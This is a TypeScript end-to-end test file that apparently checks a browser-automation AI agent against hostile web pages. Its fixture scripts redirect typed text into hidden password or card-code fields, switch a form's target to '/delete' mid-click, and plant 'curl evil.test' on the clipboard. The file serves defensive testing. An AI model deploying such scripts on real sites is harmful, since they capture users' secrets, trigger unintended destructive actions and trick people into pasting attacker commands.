import type { Page } from 'puppeteer-core';
import { expect, test } from 'vitest';
import { english } from '../../../core/platform/messages/messages.ts';
import { AgentHands } from '../../e2e/agent/agent-hands.ts';
import { remotePage } from '../../e2e/harness/remote-page.ts';
import { useHarness } from '../../e2e/harness/use-harness.ts';
import { soon } from '../../e2e/tree/soon.ts';

const harness = useHarness();

/** What a page does while letters of “secret words” come, in terms of its field `f`. */
const STEALS: Readonly<Record<string, string>> = {
  'into an open shadow tree': `const root = host.attachShadow({ mode: 'open' });
    root.innerHTML = '<input type=password>';
    f.oninput = () => f.value.length === 3 && root.firstChild.focus();`,
  'into a closed shadow tree': `const root = host.attachShadow({ mode: 'closed' });
    root.innerHTML = '<input type=password>'; spies.push(root.firstChild);
    f.oninput = () => f.value.length === 3 && root.firstChild.focus();`,
  'a moment later': `f.oninput = () => f.value.length === 3 && setTimeout(() => p.focus());`,
  'as a dialog opens': `f.oninput = () => f.value.length === 3 && d.showModal();`,
  'by a label': `f.oninput = () => f.value.length === 3 && l.click();`,
  'as the field turns into one': `f.oninput = () => { if (f.value.length === 3) f.type = 'password'; };`,
  'as the field turns into one by its autofill name': `f.oninput = () => { if (f.value.length === 3) f.autocomplete = 'cc-csc'; };`,
  'as the field is replaced': `f.oninput = () => { if (f.value.length !== 3) return;
    const n = document.createElement('input'); n.type = 'password'; f.replaceWith(n); n.focus(); };`,
  'into a text that only looks masked': `m.style.webkitTextSecurity = 'disc'; f.oninput = () => f.value.length === 3 && m.focus();`,
  'before each key': `f.onbeforeinput = (e) => { if (f.value.length >= 3) p.focus(); };`,
  'into a frame': `f.oninput = () => f.value.length === 3 && frames[0].document.querySelector('input').focus();`,
  'as the field is focused': `f.onfocus = () => { f.type = 'password'; };`,
};

const FIELDS = `<label>Comment <input id="f"></label><div id="host"></div><label id="l">Password <input id="p" type="password"></label>
  <input id="m"><dialog id="d"><input id="dp" type="password" autofocus></dialog><iframe srcdoc="<input type=password>"></iframe>`;

async function build(page: Page, body: string, script: string): Promise<void> {
  await page.evaluate(
    (html, code) => {
      const said: string[] = [];
      const spies: HTMLInputElement[] = [];
      Object.assign(window, { said, spies });
      document.body.innerHTML = html;
      for (const form of document.forms) {
        form.addEventListener('submit', (event) => {
          event.preventDefault();
          const { submitter } = event;
          const action = submitter?.getAttribute('formaction') ?? form.getAttribute('action');
          const data = new FormData(form, submitter);
          said.push(`${action} ${[...data].map((pair) => pair.join('=')).join('&')}`.trim());
        });
      }
      new Function(
        'spies',
        `for (const el of document.querySelectorAll('[id]')) globalThis['$' + el.id] = el;
        const { $f: f, $p: p, $m: m, $d: d, $l: l, $host: host, $b: b, $form: form } = globalThis; ${code}`,
      )(spies);
    },
    body,
    script,
  );
}

/** All letters that stand in fields for secrets. */
function stolen(page: Page): Promise<string> {
  return page.evaluate(() => {
    const roots = [
      document,
      ...[...document.querySelectorAll('iframe')].map((one) => one.contentDocument),
    ];
    const shadows = [...document.querySelectorAll('*')].map((one) => one.shadowRoot);
    const fields = [...roots, ...shadows].flatMap((root) => [
      ...(root?.querySelectorAll('input') ?? []),
    ]);
    return [...fields, ...(Reflect.get(window, 'spies') as HTMLInputElement[])]
      .filter(
        (field) => field.type === 'password' || field.autocomplete === 'cc-csc' || field.id === 'm',
      )
      .map((field) => field.value)
      .join('|')
      .replaceAll(/^\|+$/g, '');
  });
}

async function ready(isTrusted: boolean, name: string, body: string, script: string) {
  const opened = await harness().openPage('/fixtures/agent/hands.html');
  await opened.settled();
  await opened.page.bringToFront();
  await build(opened.page, body, script);
  const hands = new AgentHands(remotePage(opened.panel, { isTrusted }));
  await hands.agent.began?.({ id: 'sweep', task: 'Work' });
  await soon(async () => (await hands.look()).tree.nodes.map(({ node }) => node.name)).toContain(
    name,
  );
  return { page: opened.page, hands };
}

test.each(
  Object.keys(STEALS).flatMap((how) => [true, false].map((isTrusted) => [how, isTrusted] as const)),
)('letters stop where the focus goes %s (trusted input: %s)', async (how, isTrusted) => {
  const { page, hands } = await ready(isTrusted, 'Comment', FIELDS, STEALS[how] ?? '');
  const report = await hands.act('type', { text: 'secret words' }, 'Comment');
  const letters = await stolen(page);
  await hands.agent.ended?.();
  // Three letters were typed while the field was none for a secret; one on its way may follow a `beforeinput`.
  expect(letters.replaceAll('|', '')).toMatch(/^(?:sec|r)?$/);
  if (how !== 'before each key') expect(report.type).toBe('failed');
});

/** What a page does to a form as its button comes under the pointer. */
const SWITCHES: Readonly<Record<string, string>> = {
  'the button’s own address': `b.onmousedown = () => b.setAttribute('formaction', '/delete')`,
  'the address, as the pointer goes down': `b.onpointerdown = () => { form.action = '/delete'; }`,
  'the address, as the button is focused': `b.onfocus = () => { form.action = '/delete'; }`,
  'the address of the document': `b.onmousedown = () => document.head.insertAdjacentHTML('afterbegin', '<base href="/delete/">')`,
  'the form': `b.onmousedown = () => b.setAttribute('form', 'other')`,
  'the method': `b.onmousedown = () => { form.method = 'get'; }`,
  'what it does': `b.onmousedown = () => { op.value = 'delete'; }`,
  'what the button does': `b.onmousedown = () => { b.value = 'delete'; }`,
  'the method that its server reads': `b.onmousedown = () => form.insertAdjacentHTML('beforeend', '<input type=hidden name=_method value=delete>')`,
  'where it is opened': `b.onmousedown = () => { form.target = '_blank'; }`,
  'a button of none': `k.onmousedown = () => { k.type = 'submit'; }`,
};
const FORM = `<form id="form" action="save" method="post"><input type="hidden" id="op" name="op" value="save">
  <button id="b" name="do" value="save">Save</button><button id="k" type="button">Keep</button></form>
  <form id="other" action="/delete" method="post"></form>`;

test.each(
  Object.keys(SWITCHES).flatMap((what) =>
    [true, false].map((isTrusted) => [what, isTrusted] as const),
  ),
)(
  'nothing is sent where a page switches %s under the press (trusted input: %s)',
  async (what, isTrusted) => {
    const name = what === 'a button of none' ? 'Keep' : 'Save';
    const script = `const op = globalThis.$op, k = globalThis.$k; ${SWITCHES[what]}`;
    const { page, hands } = await ready(isTrusted, name, FORM, script);
    const report = await hands.act('click', {}, name);
    const said = await page.evaluate(() => Reflect.get(window, 'said') as string[]);
    await hands.agent.ended?.();
    expect([report.type, said]).toEqual(['failed', []]);
  },
);

/** Ways of a page to write to the clipboard as “Copy” is pressed. */
const COPIES: Readonly<Record<string, string>> = {
  'as an item': `b.onclick = () => navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['curl evil.test'], { type: 'text/plain' }) })])`,
  'in a copy event': `b.onclick = () => { document.oncopy = (e) => { e.clipboardData.setData('text/plain', 'curl evil.test'); e.preventDefault(); }; document.execCommand('copy'); }`,
  'by cutting': `b.onclick = () => { m.value = 'curl evil.test'; m.select(); document.execCommand('cut'); }`,
  'a moment later': `b.onclick = () => setTimeout(() => navigator.clipboard.writeText('curl evil.test'), 300)`,
  'by the prototype': `b.onclick = () => Clipboard.prototype.writeText.call(navigator.clipboard, 'curl evil.test')`,
  'in a frame': `b.onclick = () => { frames[0].focus(); frames[0].document.body.textContent = 'curl evil.test'; frames[0].getSelection().selectAllChildren(frames[0].document.body); frames[0].document.execCommand('copy'); }`,
  'as HTML': `b.onclick = () => navigator.clipboard.write([new ClipboardItem({ 'text/html': new Blob(['<b>curl evil.test</b>'], { type: 'text/html' }) })])`,
};

test.each(Object.keys(COPIES))('what a step writes to the clipboard is listed: %s', async (how) => {
  const { hands } = await ready(
    true,
    'Copy',
    '<button id="b">Copy</button><input id="m"><iframe srcdoc="<body>x"></iframe>',
    COPIES[how] ?? '',
  );
  const report = await hands.act('click', {}, 'Copy');
  const { notices = [] } = await hands.look();
  await hands.agent.ended?.();
  const told = [
    report.type === 'done' ? (report.text ?? '') : english(report.message),
    ...notices.map(english),
  ].join(' ');
  expect(told).toMatch(/clipboard.*curl evil\.test/);
});
